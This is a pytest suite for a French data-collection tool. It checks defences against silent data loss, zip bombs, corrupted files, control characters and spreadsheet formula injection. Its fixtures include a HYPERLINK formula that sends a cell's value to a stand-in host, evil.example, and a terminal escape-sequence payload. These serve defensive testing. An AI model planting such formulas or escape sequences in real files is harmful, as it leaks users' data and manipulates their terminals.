"""Issue 11: files that tried to lose, inject or exhaust, through the command line and the API.

Each test builds its hostile file in ``tmp_path`` and checks the exit code, the message
and, where data is involved, that the store is the same before and after (read with plain
sqlite3 or ``Store.load``).
"""

from __future__ import annotations

import errno
import os
import sqlite3
import stat
import struct
import tracemalloc
import zipfile
from contextlib import closing
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from pandas.testing import assert_frame_equal
from support import write_sheets

from collective_impact.cli import main
from collective_impact.demo import demo_tables
from collective_impact.errors import StoreError
from collective_impact.io import ReadLimits, read_sources, write_workbook
from collective_impact.schema import TABLE_ORDER
from collective_impact.store import Store
from collective_impact.validation import load_files

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.fixture(scope="module")
def two_territories() -> dict[str, pd.DataFrame]:
    return demo_tables(n_territories=2)


@pytest.fixture
def store_path(tmp_path, two_territories) -> Path:
    path = tmp_path / "base.sqlite"
    Store(path).import_tables(two_territories)
    return path


@pytest.fixture
def workbook(tmp_path, two_territories) -> Path:
    path = tmp_path / "saisie.xlsx"
    write_workbook(two_territories, path)
    return path


def count_rows(path: Path, table: str) -> int:
    with closing(sqlite3.connect(path)) as con:
        return con.execute(f'SELECT COUNT(*) FROM "{table}"').fetchone()[0]


def snapshot(path: Path) -> dict[str, pd.DataFrame]:
    return Store(path, create=False).load()


def assert_same_store(before: dict[str, pd.DataFrame], path: Path) -> None:
    after = snapshot(path)
    for name in TABLE_ORDER:
        assert_frame_equal(after[name], before[name], obj=name)


def rename_sheet(path: Path, old: str, new: str | None) -> None:
    """Rename (or, with ``new=None``, delete) a sheet of the workbook at ``path``."""
    book = load_workbook(path)
    if new is None:
        book.remove(book[old])
    else:
        book[old].title = new
    book.save(path)


def one_territory_workbook(path: Path, sheets: dict[str, list[list]]) -> Path:
    """A workbook with territory T1 and the given sheets (title → rows, header first)."""
    return write_sheets(path, {"Territoires": [["Territoire", "Nom", "Phase"], ["T1", "Nord", "Démarrage"]], **sheets})


def run(argv: list[str], capsys) -> tuple[int, str, str]:
    code = main(argv)
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


# ------------------------------------------------------------- 1. silent data loss
def test_a_renamed_answers_sheet_is_refused_with_the_sheet_it_resembles(store_path, workbook, capsys):
    before = snapshot(store_path)
    rename_sheet(workbook, "Réponses", "Réponses (copie)")
    code, _, err = run(["import", str(workbook), "--store", str(store_path)], capsys)
    assert code == 1
    assert "feuille « Réponses (copie) »" in err and "ressemble à la feuille « Réponses »" in err
    assert_same_store(before, store_path)


def test_a_missing_sheet_is_refused_naming_what_it_would_remove(store_path, workbook, capsys):
    before = snapshot(store_path)
    stored_answers = count_rows(store_path, "responses")
    assert stored_answers > 100
    rename_sheet(workbook, "Réponses", None)
    code, _, err = run(["import", str(workbook), "--store", str(store_path)], capsys)
    assert code == 1
    # the count as French writes it: thousands set apart by a narrow no-break space
    french = f"{stored_answers:,}".replace(",", "\u202f")
    assert f"pas de feuille « Réponses », alors que la base en contient {french} lignes" in err
    assert "--replace-only-present" in err and "--clear" in err
    assert_same_store(before, store_path)


def test_replace_only_present_keeps_the_absent_tables(store_path, workbook, capsys):
    before = snapshot(store_path)
    rename_sheet(workbook, "Réponses", None)
    book = load_workbook(workbook)
    book["Territoires"]["B2"] = "Nouveau nom"
    first = book["Territoires"]["A2"].value
    book.save(workbook)
    code, out, _ = run(["import", str(workbook), "--store", str(store_path), "--replace-only-present"], capsys)
    assert code == 0
    assert "gardées telles quelles pour ces territoires (feuilles absentes du fichier) : Réponses" in out
    after = snapshot(store_path)
    assert_frame_equal(after["responses"], before["responses"])
    assert after["territories"].set_index("territory_id").at[first, "name"] == "Nouveau nom"


def test_clear_empties_the_table_on_purpose(store_path, workbook, capsys):
    rename_sheet(workbook, "Réponses", None)
    code, _, _ = run(["import", str(workbook), "--store", str(store_path), "--clear", "Réponses"], capsys)
    assert code == 0
    assert count_rows(store_path, "responses") == 0
    code, _, err = run(["import", str(workbook), "--store", str(store_path), "--clear", "Bidule"], capsys)
    assert code == 2 and "Table inconnue « Bidule »" in err


def test_the_api_applies_the_same_rule(store_path, two_territories):
    store = Store(store_path)
    before = store.load()
    partial = {name: frame for name, frame in two_territories.items() if name != "responses"}
    assert store.absent_tables(partial) == {"responses": len(before["responses"])}
    with pytest.raises(StoreError, match="pas de feuille pour « Réponses » \\("):
        store.import_tables(partial)
    assert_same_store(before, store_path)
    summary = store.import_tables(partial, mode="present")
    assert summary.kept == ("responses",)
    assert_frame_equal(store.load(["responses"])["responses"], before["responses"])


# --------------------------------------------------------------------- 3. zip bomb
def test_a_workbook_too_big_once_decompressed_is_not_read(tmp_path):
    path = tmp_path / "bombe.xlsx"
    book = Workbook()
    sheet = book.active
    sheet.title = "Territoires"
    sheet.append(["Territoire", "Nom", "Phase"])
    for i in range(3000):
        sheet.append([f"T{i}", "x" * 200, "Démarrage"])
    book.save(path)
    unpacked = sum(info.file_size for info in zipfile.ZipFile(path).infolist())
    limits = ReadLimits(unpacked_bytes=unpacked - 1)
    sheets, problems = read_sources([path], limits=limits)
    assert sheets == []
    assert [p.message.split(" ")[0] for p in problems] == ["ce"]
    assert "une fois décompressé" in problems[0].message
    # the ratio alone refuses it too
    sheets, problems = read_sources([path], limits=ReadLimits(ratio=2.0, ratio_floor=0))
    assert sheets == [] and "une fois décompressé" in problems[0].message


def test_a_declared_huge_member_is_refused_before_openpyxl_reads(tmp_path, monkeypatch):
    source = tmp_path / "petit.xlsx"
    book = Workbook()
    book.active.title = "Territoires"
    book.active.append(["Territoire", "Nom", "Phase"])
    book.save(source)
    data = bytearray(source.read_bytes())
    # the central directory entry of the sheet: its uncompressed size (offset 24) says 1 GiB
    name = b"xl/worksheets/sheet1.xml"
    start = data.find(b"PK\x01\x02")
    while data[start + 46:start + 46 + len(name)] != name:
        start = data.find(b"PK\x01\x02", start + 4)
    data[start + 24:start + 28] = struct.pack("<I", 2**30)
    bomb = tmp_path / "bombe.xlsx"
    bomb.write_bytes(bytes(data))

    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl must not open the file")

    monkeypatch.setattr("collective_impact.io.workbooks.load_workbook", refuse)
    tracemalloc.start()
    sheets, problems = read_sources([bomb])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert sheets == [] and len(problems) == 1
    assert "1 024,0 Mo une fois décompressé" in problems[0].message.replace("\u202f", " ")
    assert peak < 20 * 2**20


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_too_many_rows(tmp_path, kind):
    rows = [["Territoire", "Nom", "Phase"]] + [[f"T{i}", "Nom", "Démarrage"] for i in range(10)]
    if kind == "xlsx":
        path = tmp_path / "saisie.xlsx"
        book = Workbook()
        book.active.title = "Territoires"
        for row in rows:
            book.active.append(row)
        book.save(path)
    else:
        path = tmp_path / "Territoires.csv"
        path.write_text("\n".join(";".join(r) for r in rows) + "\n", encoding="utf-8")
    sheets, problems = read_sources([path], limits=ReadLimits(rows=10))
    assert sheets == []
    assert [p.message for p in problems] == [
        "trop de lignes : 10 au plus par feuille (lignes vides comprises). Supprimez les lignes en trop, "
        "ou séparez les territoires en plusieurs fichiers."]
    sheets, problems = read_sources([path], limits=ReadLimits(rows=11))
    assert problems == [] and len(sheets[0].frame) == 10


def test_a_csv_file_too_big(tmp_path):
    path = tmp_path / "Territoires.csv"
    path.write_text("Territoire;Nom;Phase\n" + "T1;Nom;Démarrage\n" * 100, encoding="utf-8")
    _, problems = read_sources([path], limits=ReadLimits(file_bytes=100))
    assert len(problems) == 1 and problems[0].message.startswith("fichier trop volumineux")


# ------------------------------------------------------------------ 7. tracebacks
def test_a_sheet_cut_in_half_is_a_message(workbook, tmp_path, capsys):
    cut = tmp_path / "coupe.xlsx"
    with zipfile.ZipFile(workbook) as source, zipfile.ZipFile(cut, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet4.xml":  # the answers (after read-me, territories, partners)
                data = data[: len(data) // 2]
            target.writestr(info, data)
    code, _, err = run(["validate", str(cut)], capsys)
    assert code == 1
    assert "feuille « Réponses » : cette feuille est abîmée" in err


def test_a_store_with_an_unreadable_version_is_a_message(store_path, workbook, capsys):
    with closing(sqlite3.connect(store_path)) as con:
        con.execute("UPDATE meta SET value = 'abc' WHERE key = 'schema_version'")
        con.commit()
    for argv in (["summary"], ["import", str(workbook)], ["export", str(store_path.parent / "x.xlsx")]):
        code, _, err = run([*argv, "--store", str(store_path)], capsys)
        assert code == 1, argv
        assert "numéro de structure illisible (« abc »)" in err


def test_export_on_a_full_disk_keeps_the_previous_file(store_path, tmp_path, monkeypatch, capsys):
    out = tmp_path / "export.xlsx"
    out.write_bytes(b"previous export")
    original = zipfile.ZipFile.writestr
    calls = []

    def full_disk(self, *args, **kwargs):
        if self.filename is None:  # openpyxl building the workbook in memory
            return original(self, *args, **kwargs)
        calls.append(1)
        if len(calls) > 3:
            raise OSError(errno.ENOSPC, "No space left on device")
        return original(self, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "writestr", full_disk)
    code, _, err = run(["export", str(out), "--store", str(store_path)], capsys)
    assert code == 1
    assert f"le fichier {out} n'a pas pu être écrit (No space left on device)" in err
    assert out.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir() if not p.name.startswith("base.sqlite")] == ["export.xlsx"]


@pytest.mark.parametrize("command", ["template", "demo-data"])
def test_template_and_demo_data_are_written_atomically(command, tmp_path, monkeypatch, capsys):
    out = tmp_path / "classeur.xlsx"
    monkeypatch.setattr("collective_impact.files.os.replace",
                        lambda *a: (_ for _ in ()).throw(OSError(errno.EROFS, "Read-only file system")))
    code, _, err = run([command, str(out)], capsys)
    assert code == 1 and "Read-only file system" in err
    assert list(tmp_path.iterdir()) == []


# ----------------------------------------------------------- 8. control characters
def test_text_is_cleaned_as_the_forms_clean_it(tmp_path, capsys):
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "Territoires.csv").write_text(
        "Territoire;Nom;Phase\nT1;\"Quartier\x00 \x07Nord\x1b[31m\u202e\u200b\";Démarrage\n", encoding="utf-8")
    (folder / "Appréciations.csv").write_text(
        "Territoire;Vague;Condition;Appréciation;Justification\n"
        "T1;1;Agenda commun;Point fort;\"Ligne\x1b un\r\nligne\u202e deux\"\n", encoding="utf-8")
    store = tmp_path / "base.sqlite"
    code, _, _ = run(["import", str(folder), "--store", str(store)], capsys)
    assert code == 0
    tables = Store(store).load()
    # what the forms store: control, bidirectional and invisible characters gone,
    # line breaks kept only in the justification (a multi-line field of the guided app)
    assert tables["territories"]["name"].tolist() == ["Quartier Nord[31m"]
    assert tables["judgments"]["justification"].tolist() == ["Ligne un\nligne deux"]


def test_an_identifier_with_an_invisible_character_is_refused_naming_it(tmp_path, capsys):
    path = tmp_path / "Territoires.csv"
    path.write_text("Territoire;Nom;Phase\nT\u202e1;Nord;Démarrage\n", encoding="utf-8")
    code, _, err = run(["validate", str(path)], capsys)
    assert code == 1
    assert "caractères invisibles ou de contrôle (U+202E)" in err


def test_summary_never_prints_control_characters(tmp_path, capsys):
    store = Store(tmp_path / "base.sqlite")
    tables = demo_tables(n_territories=1)
    tables["territories"] = tables["territories"].assign(name="Nord\x1b]0;pwned\x07\u202e")
    store.import_tables(tables)  # the API takes typed tables as they are (an older import)
    code, out, _ = run(["summary", "--store", str(store.path)], capsys)
    assert code == 0
    assert "Nord]0;pwned" in out
    assert not any(ch in out for ch in "\x1b\x07\u202e")


# --------------------------------------------------------- 10. nothing guessed
def test_a_formula_without_a_saved_value_is_a_problem_naming_the_cell(tmp_path, capsys):
    path = one_territory_workbook(tmp_path / "saisie.xlsx", {"Réponses": [
        ["Territoire", "Vague", "Répondant", "Question", "Réponse"],
        ["T1", 1, "R1", "agenda_1", "=2+2"],  # openpyxl saves no value with it
    ]})
    code, _, err = run(["validate", str(path)], capsys)
    assert code == 1
    assert ("feuille « Réponses », ligne 2, colonne « Réponse » : valeur « =2+2 » : la case E2 contient une formule"
            in err)
    assert "Enregistrez le fichier dans Excel ou LibreOffice d'abord" in err
    assert "1 problème" in err  # not reported a second time as a blank


def test_a_loop_in_the_theory_of_change_is_an_input_error(tmp_path, capsys):
    path = one_territory_workbook(tmp_path / "saisie.xlsx", {"Théorie du changement": [
        ["Territoire", "Résultat", "Intitulé", "Niveau", "Conduit à"],
        ["T1", "O1", "Aide", "Activité", "O2"],
        ["T1", "O2", "Réussite", "Résultat intermédiaire", "O3"],
        ["T1", "O3", "Emploi", "Résultat intermédiaire", "O1;O4"],
        ["T1", "O4", "Impact", "Impact", None],
    ]})
    store = tmp_path / "base.sqlite"
    for argv in (["validate", str(path)], ["import", str(path), "--store", str(store)]):
        code, _, err = run(argv, capsys)
        assert code == 1
        assert ("feuille « Théorie du changement », ligne 2, colonne « Conduit à » : valeur « O2 » : "
                "la théorie du changement tourne en rond : O1 → O2 → O3 → O1.") in err
    assert not store.exists() or count_rows(store, "outcomes") == 0


# ----------------------------------------------------------------------- 11. smaller
def test_summary_does_not_turn_an_empty_file_into_a_store(tmp_path, capsys):
    empty = tmp_path / "vide.sqlite"
    empty.touch()
    code, _, err = run(["summary", "--store", str(empty)], capsys)
    assert code == 1 and "fichier vide" in err
    assert empty.stat().st_size == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["vide.sqlite"]


def test_a_read_only_store_is_said_to_be_read_only(store_path, workbook, monkeypatch, capsys):
    before = snapshot(store_path)
    connect = sqlite3.connect

    def read_only(path, *args, uri=False, **kwargs):  # what a read-only file system gives SQLite
        if not uri:
            path, uri = Path(path).resolve().as_uri() + "?mode=ro", True
        return connect(path, *args, uri=uri, **kwargs)

    monkeypatch.setattr("collective_impact.store.connection.sqlite3.connect", read_only)
    code, _, err = run(["import", str(workbook), "--store", str(store_path)], capsys)
    assert code == 1
    assert "est en lecture seule" in err and "n'est pas une base" not in err
    monkeypatch.undo()
    assert_same_store(before, store_path)


def test_a_csv_with_a_utf8_mark_but_windows_content(tmp_path, capsys):
    path = tmp_path / "Territoires.csv"
    path.write_bytes(b"\xef\xbb\xbf" + "Territoire;Nom;Phase;Département\nT1;Écoles;Démarrage;59\n".encode("cp1252"))
    code, _, err = run(["validate", str(path)], capsys)
    assert code == 1
    assert "commence par la marque du codage UTF-8, mais son contenu n'est pas en UTF-8 (octet 0xE9" in err
    assert "CSV UTF-8" in err


# ------------------------------------------------ spreadsheet outputs never execute
def test_a_formula_like_text_is_written_as_text_and_read_back_the_same(tmp_path, capsys):
    folder = tmp_path / "csv"
    folder.mkdir()
    quoted = HOSTILE.replace('"', '""')
    (folder / "Territoires.csv").write_text(f'Territoire;Nom;Phase\nT1;"{quoted}";Démarrage\n', encoding="utf-8")
    (folder / "Partenaires.csv").write_text(
        f'Territoire;Partenaire;Nom;Type de structure\nT1;P1;"{quoted}";Mairie\nT1;P2;"+33 1 23";Mairie\n'
        'T1;P3;"-moins";Mairie\nT1;P4;"@arobase";Mairie\n',
        encoding="utf-8")
    store = tmp_path / "base.sqlite"
    assert run(["import", str(folder), "--store", str(store)], capsys)[0] == 0
    out = tmp_path / "export.xlsx"
    assert run(["export", str(out), "--store", str(store)], capsys)[0] == 0

    book = load_workbook(out)  # formulas as written, not values
    name = book["Territoires"]["B2"]
    assert (name.value, name.data_type) == (HOSTILE, "s")
    partners = [(c.value, c.data_type) for c in book["Partenaires"]["C"][1:]]
    assert partners == [(HOSTILE, "s"), ("+33 1 23", "s"), ("-moins", "s"), ("@arobase", "s")]
    with zipfile.ZipFile(out) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))

    back = load_files([out])
    assert back["territories"]["name"].tolist() == [HOSTILE]
    assert back["partners"]["name"].tolist() == [HOSTILE, "+33 1 23", "-moins", "@arobase"]


def test_written_files_get_the_usual_permissions(tmp_path):
    from collective_impact.files import write_bytes

    write_bytes(tmp_path / "rapport.html", b"<p>ok</p>")
    umask = os.umask(0o022)
    os.umask(umask)
    # the mode any new file gets under this umask (mkstemp alone gives 0600)
    assert stat.S_IMODE((tmp_path / "rapport.html").stat().st_mode) == 0o666 & ~umask
